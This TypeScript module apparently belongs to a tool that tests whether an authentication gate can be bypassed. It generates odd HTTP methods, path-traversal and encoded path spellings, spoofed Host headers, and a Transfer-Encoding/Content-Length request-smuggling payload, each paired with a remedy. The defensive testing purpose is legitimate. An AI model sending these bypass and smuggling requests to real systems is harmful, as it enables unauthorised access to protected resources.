import { spellingsOf } from './spellings.ts';
import { type Attack, carried, type Try, targetOf } from './way.ts';
import { type Pairs, textOf, type Wire } from './wire.ts';

const decides =
  "The gate never looks at path or method: whoever let this pass did not ask it. A front must ask for every request, and pass on the gate's word only.";
const tried = 60;

/** The session as the browser sends it, by odd requests. */
export function requestWays(attack: Attack, gate: URL): Try[] {
  const { aim, besides } = attack;
  const target = targetOf(attack);
  const headers = [...besides, ...carried(attack)];
  const one = (way: string, what: string, wire: Partial<Wire>, loose = false): Try => ({
    way,
    what,
    loose,
    wire: { method: aim.method, target, headers, ...wire },
    remedy: decides,
  });
  const adding = (more: Pairs): Partial<Wire> => ({ headers: [...headers, ...more] });
  const form = 'application/x-www-form-urlencoded';

  return [
    ...[
      'GET',
      'HEAD',
      'POST',
      'OPTIONS',
      'TRACE',
      'PROPFIND',
      'SEARCH',
      'QUERY',
      'get',
      'GETX',
    ].map((method) =>
      one('other methods', method, { method, ...(method === 'POST' ? { body: '' } : {}) }),
    ),
    one('other methods', 'POST with _method=GET', {
      method: 'POST',
      body: '_method=GET',
      ...adding([['Content-Type', form]]),
    }),
    ...pathsTo(attack).map((path) => one('odd paths', path, { target: path })),
    ...forms(target, gate).map(([what, wire]) => one('odd forms of the request', what, wire)),
    ...[
      [
        'a navigation',
        { Accept: 'text/html', 'Sec-Fetch-Mode': 'navigate', 'Sec-Fetch-Dest': 'document' },
      ],
      [
        'a script of a page',
        { Accept: 'application/json', 'Sec-Fetch-Mode': 'cors', 'Sec-Fetch-Site': 'same-origin' },
      ],
      ['an image', { Accept: 'image/*', 'Sec-Fetch-Mode': 'no-cors', 'Sec-Fetch-Dest': 'image' }],
      ['a preload', { Purpose: 'prefetch', 'Sec-Purpose': 'prefetch' }],
      ['a range', { Range: 'bytes=0-10000' }],
      [
        'a question for a change',
        { 'If-None-Match': '"x"', 'If-Modified-Since': 'Thu, 01 Jan 1970 00:00:00 GMT' },
      ],
      ['with an expectation', { Expect: '100-continue' }],
    ].map(([what, more]) =>
      one('every kind of a browser’s request', String(what), adding(Object.entries(more ?? {}))),
    ),
    ...[
      one('two requests on one connection', 'behind one without the session', {
        before: textOf(gate, {
          method: 'GET',
          target: '/',
          headers: [...besides, ['Connection', 'keep-alive']],
        }),
      }),
      one('two requests on one connection', 'hidden in the body of another, by both lengths', {
        ...hidden(gate, { method: aim.method, target, headers }),
      }),
    ],
    ...attack.profile.login.map(({ method, path, query }) =>
      one(
        'the login request, with the session',
        `${method} ${path}`,
        {
          method,
          target: query ? `${path}?${new URLSearchParams(query)}` : path,
          ...(method === 'GET' ? {} : { body: '', ...adding([['Content-Type', form]]) }),
        },
        true,
      ),
    ),
  ];
}

/** The aim under other spellings; a query goes along. */
function pathsTo(attack: Attack): string[] {
  const { aim, profile, seed } = attack;
  const [path = '/', query] = targetOf(attack).split('?', 2);
  const withQuery = (spelled: string) =>
    query === undefined ? spelled : `${spelled}${spelled.includes('?') ? '&' : '?'}${query}`;
  const elsewhere = ['/login', '/assets', '/static', '/favicon.ico', '/public', '/health'];
  const known = profile.login.map((request) => request.path);
  const climbs = [...known, ...elsewhere].flatMap((from) => [
    `${from}/..${aim.target}`,
    `${from}/..;${aim.target}`,
    `${from}%2f..${aim.target}`,
    `${from}/%2e%2e${aim.target}`,
  ]);
  const endings = [
    '/',
    '.',
    '%20',
    '%00',
    '%09',
    '.json',
    '.css',
    '.js',
    '/x.css',
    ';x=.css',
    '%3fx',
    '~',
  ].map((ending) => withQuery(path + ending));
  const random = spellingsOf(seed, tried, [path], [...known, '/assets']).map(withQuery);
  return [...new Set([...climbs, ...endings, ...random])].filter((each) => !/[\s]/.test(each));
}

function forms(target: string, gate: URL): (readonly [what: string, wire: Partial<Wire>])[] {
  const path = target.replace(/^\//, '');
  return [
    ['HTTP/1.0', { version: '1.0' }],
    ['HTTP/1.0 without Host', { version: '1.0', host: null }],
    ['the whole address as target', { target: `${gate.origin}${target}` }],
    ['the whole address of another host as target', { target: `http://localhost${target}` }],
    [
      'the whole address in capitals as target',
      { target: `HTTP://${gate.host.toUpperCase()}${target}` },
    ],
    ['Host: localhost', { host: 'localhost' }],
    ['Host: 127.0.0.1', { host: '127.0.0.1' }],
    ['Host with a dot at its end', { host: `${gate.hostname}.` }],
    ['Host of nobody', { host: 'nobody.invalid' }],
    ['a target without a slash', { target: path }],
    ['a target with a backslash', { target: `\\${path}` }],
    ['a target with two slashes', { target: `//${path}` }],
    ['a target with a fragment', { target: `${target}#x` }],
  ];
}

/** One request whose end two servers may see at two places (RFC 9112 §11.2). */
function hidden(gate: URL, inner: Wire): Partial<Wire> {
  const second = textOf(gate, inner);
  const body = `0\r\n\r\n${second}`;
  const outer: Wire = {
    method: 'POST',
    target: '/',
    headers: [
      ['Connection', 'keep-alive'],
      ['Transfer-Encoding', 'chunked'],
      ['Content-Length', String(Buffer.byteLength(body))],
    ],
    body,
  };
  return { before: textOf(gate, outer) };
}
